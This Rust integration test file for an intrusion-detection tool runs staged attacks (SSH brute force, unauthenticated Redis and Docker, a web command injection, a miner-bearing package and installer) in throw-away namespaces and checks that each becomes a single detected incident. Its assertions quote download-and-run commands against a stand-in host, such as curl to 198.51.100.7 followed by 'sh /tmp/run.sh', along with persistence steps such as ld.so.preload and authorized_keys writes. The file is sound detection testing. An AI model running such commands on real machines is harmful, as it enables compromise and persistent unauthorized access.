//! Whole attacks with the real programs: each is one incident that tells how the intruder came in and what he did.
//!
//! The victim is a throw-away machine (tests/scenarios/enter.sh); the intruder has processes and a control group of his
//! own and reaches it at 192.0.2.10, from 198.51.100.7. What he brings is harmless: stand-ins that talk to a pool of ours.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test that panics has failed, and says where"
)]

mod support;

use std::{
    collections::BTreeSet,
    fs,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use serde_json::Value;
use support::{Running, alone, root, rule};

/// Generous for a loaded machine.
const LIMIT: Duration = Duration::from_secs(60);
const SOURCE: &str = "198.51.100.7";

/// Into the control group first, so that every process of the machine began in it.
const MACHINE: &str = r#"echo 0 > "$1/cgroup.procs" && exec unshare --mount --pid --fork --kill-child --net --uts --ipc \
    --propagation private sh "$2" "$3""#;
/// In the machine's network, with processes of his own.
const INTRUDER: &str = r#"echo 0 > "$1/cgroup.procs" && exec nsenter --net="/proc/$2/ns/net" \
    unshare --mount --pid --fork --kill-child --mount-proc --propagation private bash "$3""#;

/// A control group that goes when nobody is in it any more.
struct Group(PathBuf);

impl Group {
    fn new(name: &str) -> Self {
        let mounts = fs::read_to_string("/proc/self/mounts").unwrap();
        let mount = mounts.lines().find(|line| line.split(' ').nth(2) == Some("cgroup2"));
        let mount = mount.expect("cgroup2 is mounted").split(' ').nth(1).unwrap();
        let group = Path::new(mount).join(format!("minesweep-attack-{}-{name}", std::process::id()));
        fs::create_dir(&group).unwrap();
        Self(group)
    }
}

impl Drop for Group {
    fn drop(&mut self) {
        // After a failure some may still be ending; only processes of this test are in there.
        let killed = fs::write(self.0.join("cgroup.kill"), "1");
        let until = Instant::now() + LIMIT;
        while fs::read_to_string(self.0.join("cgroup.procs")).is_ok_and(|pids| !pids.is_empty())
            && Instant::now() < until
        {
            std::thread::yield_now();
        }
        if let Err(error) = fs::remove_dir(&self.0) {
            eprintln!("{} stays: {error}; {killed:?}", self.0.display());
        }
    }
}

/// An attack that is going on.
struct Attack {
    watch: Running,
    intruder: Running,
    machine: Running,
    name: String,
    /// Last, so that the processes are gone.
    groups: [Group; 2],
    _shared: tempfile::TempDir,
}

impl Attack {
    /// Sets up the machine and the intruder, by `NAME.machine.sh` and `NAME.intruder.sh`, and then begins to watch.
    fn prepare(name: &str) -> Self {
        let groups = [Group::new(name), Group::new(&format!("{name}-intruder"))];
        let shared = tempfile::tempdir().unwrap();
        let scenarios = root().join("tests/scenarios");
        let scripts = fs::read_dir(scenarios.join("attacks")).unwrap().map(|entry| entry.unwrap().path());
        for file in scripts.chain(["pool.py", "miner.py", "serve.py"].map(|name| scenarios.join(name))) {
            fs::copy(&file, shared.path().join(file.file_name().unwrap())).unwrap();
        }
        let mut machine = Command::new("sh");
        machine.args(["-c", MACHINE, "sh"]).arg(&groups[0].0).arg(scenarios.join("enter.sh"));
        machine.arg(shared.path().join(format!("{name}.machine.sh")));
        let machine = Running::start(machine.env("PORT", "20000").env("SHARED", shared.path()));
        ready(&machine, "ready");
        let mut intruder = Command::new("sh");
        intruder.args(["-c", INTRUDER, "sh"]).arg(&groups[1].0).arg(machine.pid().to_string());
        intruder.arg(shared.path().join(format!("{name}.intruder.sh")));
        let intruder = Running::start(intruder.current_dir(shared.path()));
        ready(&intruder, "ready");
        let config = shared.path().join("config.toml");
        let log = shared.path().join("auth.log").display().to_string();
        fs::write(&config, format!("[logs]\nfiles = [{{ path = \"{log}\" }}]\n")).unwrap();
        let watch = Running::watch(&["--config", &config.display().to_string()]);
        Self { watch, intruder, machine, name: name.to_owned(), groups, _shared: shared }
    }

    /// Lets both do their part, the intruder first, and gives the story that is told of the machine.
    fn carry_out(mut self, steps: &[&str]) -> Story {
        for part in [&mut self.intruder, &mut self.machine] {
            part.say("go\n");
            ready(part, "done");
        }
        let mark = self.groups[0].0.file_name().unwrap().to_str().unwrap().to_owned();
        let whole = self.watch.find(LIMIT, |line| {
            line["class_uid"] == 2005 && is_of(line, &mark) && has_all(&rules_of(line), steps)
        });
        let lines: Vec<Value> =
            self.watch.terminate_for_all().iter().map(|line| serde_json::from_str(line).unwrap()).collect();
        let guesses = lines.iter().filter(|line| rule(line) == Some("access.brute-force")).cloned().collect();
        let lines: Vec<Value> = lines.into_iter().filter(|line| is_of(line, &mark)).collect();
        self.intruder.end();
        self.machine.end();
        let told = lines.iter().map(outline).collect::<Vec<_>>().join("\n");
        if let Ok(folder) = std::env::var("ATTACK_LINES") {
            let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
            fs::write(Path::new(&folder).join(format!("{}.jsonl", self.name)), text).unwrap();
        }
        assert!(whole.is_some(), "no incident has all of {steps:?}; told:\n{told}");
        Story::of(&lines, guesses, &told)
    }
}

/// Waits until a script says so; what it printed instead is in the panic.
fn ready(script: &Running, word: &str) {
    let line = script.line();
    assert_eq!(line, word, "{}", script.errors_so_far());
}

/// The one incident of a machine as last told.
struct Story {
    incident: Value,
    /// Told of whoever guesses passwords, before there is a process to tell of.
    guesses: Vec<Value>,
    told: String,
}

impl Story {
    /// One incident, and everything of medium severity or higher is part of it.
    fn of(lines: &[Value], guesses: Vec<Value>, told: &str) -> Self {
        let uids: BTreeSet<&str> = lines
            .iter()
            .filter(|line| line["class_uid"] == 2005)
            .map(|line| line["metadata"]["uid"].as_str().unwrap())
            .collect();
        assert_eq!(uids.len(), 1, "not one incident:\n{told}");
        // What was told before it opened names no incident, but is among its steps.
        let last = lines.iter().rfind(|line| line["class_uid"] == 2005).unwrap().clone();
        let steps = last["finding_info_list"].as_array().into_iter().flatten();
        let steps: BTreeSet<&str> = steps.filter_map(|finding| finding["uid"].as_str()).collect();
        let is_part = |line: &Value| {
            line["metadata"]["correlation_uid"].as_str().is_some_and(|uid| uids.contains(uid))
                || line["finding_info"]["uid"].as_str().is_some_and(|uid| steps.contains(uid))
        };
        let is_grave = |line: &Value| line["severity_id"].as_u64() >= Some(3);
        let beside: Vec<String> =
            lines.iter().filter(|line| is_grave(line) && !is_part(line)).map(outline).collect();
        assert!(beside.is_empty(), "not part of it: {beside:#?}");
        Self { incident: last, guesses, told: told.to_owned() }
    }

    /// These rules saw steps, in this order.
    fn goes(&self, steps: &[&str]) -> &Self {
        let rules = rules_of(&self.incident);
        let mut at = rules.iter();
        for step in steps {
            assert!(
                at.any(|rule| rule == step),
                "{step} is not where it should be in {rules:?}:\n{}",
                self.told
            );
        }
        self
    }

    /// The steps name these commands and files.
    fn names(&self, words: &[&str]) -> &Self {
        let list = self.incident["finding_info_list"].to_string();
        for word in words {
            assert!(list.contains(word), "{word} is not named:\n{}", self.told);
        }
        self
    }

    /// How it came in.
    fn entry(&self, words: &[&str], source: Option<&str>) -> &Self {
        let entry = &self.incident["unmapped"]["entry"];
        let text = entry["text"].as_str().unwrap_or_default();
        for word in words {
            assert!(text.contains(word), "{word} is not in the entry {entry}:\n{}", self.told);
        }
        assert_eq!(entry["src_endpoint"]["ip"].as_str(), source, "{entry}");
        self
    }
}

fn is_of(line: &Value, mark: &str) -> bool {
    let group = line["unmapped"]["process"]["cgroup"].as_str().unwrap_or_default();
    group.split('/').any(|part| part == mark)
}

fn rules_of(incident: &Value) -> Vec<String> {
    let list = incident["finding_info_list"].as_array().into_iter().flatten();
    list.filter_map(|finding| finding["analytic"]["uid"].as_str().map(str::to_owned)).collect()
}

fn has_all(rules: &[String], wanted: &[&str]) -> bool {
    wanted.iter().all(|one| rules.iter().any(|rule| rule == one))
}

fn outline(line: &Value) -> String {
    let uid = line["metadata"]["correlation_uid"].as_str().unwrap_or("-");
    match rule(line) {
        Some(rule) => format!("  {} {uid} {rule}: {}", line["severity_id"], line["finding_info"]["desc"]),
        None => format!(
            "INCIDENT {uid} {} entry {} {:?}",
            line["message"],
            line["unmapped"]["entry"],
            rules_of(line)
        ),
    }
}

#[test]
fn a_guessed_password_and_all_that_the_intruder_does_with_it_are_one_incident() {
    let _alone = alone();
    let steps = [
        "access.login-after-failures",
        "intrusion.download-address",
        "intrusion.download-run",
        "persistence.unit-written",
        "persistence.cron-folder",
        "persistence.preload-list",
        "evasion.immutable",
        "evasion.history-redirected",
    ];
    let whole = [steps.as_slice(), &["mining.stratum", "evasion.rivals-killed"]].concat();
    let story = Attack::prepare("ssh").carry_out(&whole);
    story.goes(&steps).names(&[
        "curl -fsS -o /tmp/run.sh http://198.51.100.7:8000/run.sh",
        "sh /tmp/run.sh",
        "/var/tmp/.cache/netd /var/tmp/.cache/job",
        "/etc/systemd/system/netd.service",
        "/etc/cron.d/netd",
        "/usr/local/lib/libnetd.so",
        "/etc/ld.so.preload",
        "chattr +i",
        "/root/.bash_history",
    ]);
    story.entry(&["root logged in at ssh", SOURCE, "after"], Some(SOURCE));
    let sources: BTreeSet<Option<&str>> =
        story.guesses.iter().map(|line| line["evidences"][0]["src_endpoint"]["ip"].as_str()).collect();
    assert_eq!(sources, BTreeSet::from([Some(SOURCE)]), "who guessed");
}

#[test]
fn a_redis_without_a_password_that_is_made_to_write_jobs_and_keys_names_who_asked_it() {
    let _alone = alone();
    let steps = ["intrusion.store-writes-system", "persistence.cron-folder", "persistence.keys-written"];
    let story = Attack::prepare("redis").carry_out(&steps);
    story.goes(&steps).names(&["/etc/cron.d/cache", "/root/.ssh/authorized_keys"]);
    story.entry(&["redis-server", "port 6379", SOURCE], Some(SOURCE));
}

#[test]
fn a_package_that_brings_a_miner_along_is_named() {
    let _alone = alone();
    let steps = ["mining.stratum"];
    Attack::prepare("deb").carry_out(&steps).entry(&["dpkg", "free-tiles"], None);
}

#[test]
fn an_installer_from_the_net_that_brings_a_miner_along_is_named() {
    let _alone = alone();
    let steps = ["intrusion.download-run", "mining.stratum"];
    Attack::prepare("shell")
        .carry_out(&steps)
        .goes(&steps)
        .entry(&["http://198.51.100.7:8000/install.sh"], None);
}

#[test]
fn a_request_that_runs_commands_through_a_web_application_behind_nginx_is_named() {
    let _alone = alone();
    let steps = ["intrusion.download-run", "mining.stratum"];
    let story = Attack::prepare("web").carry_out(&steps);
    story.goes(&steps).entry(&["nginx", "/lookup?host=", SOURCE], Some(SOURCE));
}

#[test]
fn a_docker_without_a_password_that_starts_a_container_with_the_root_of_the_host_names_who_asked_it() {
    let _alone = alone();
    let steps = ["persistence.cron-line-download", "container.host-file"];
    let story = Attack::prepare("docker").carry_out(&steps);
    story.goes(&steps).names(&["/host/etc/cron.d/cache", "http://198.51.100.7:8000/run.sh"]);
    story.entry(&["dockerd", "port 2375", SOURCE], Some(SOURCE));
    let container = &story.incident["actor"]["process"]["container"];
    assert_eq!(container["runtime"].as_str(), Some("docker"), "{container}");
    assert_eq!(container["uid"].as_str().map(str::len), Some(64), "{container}");
}
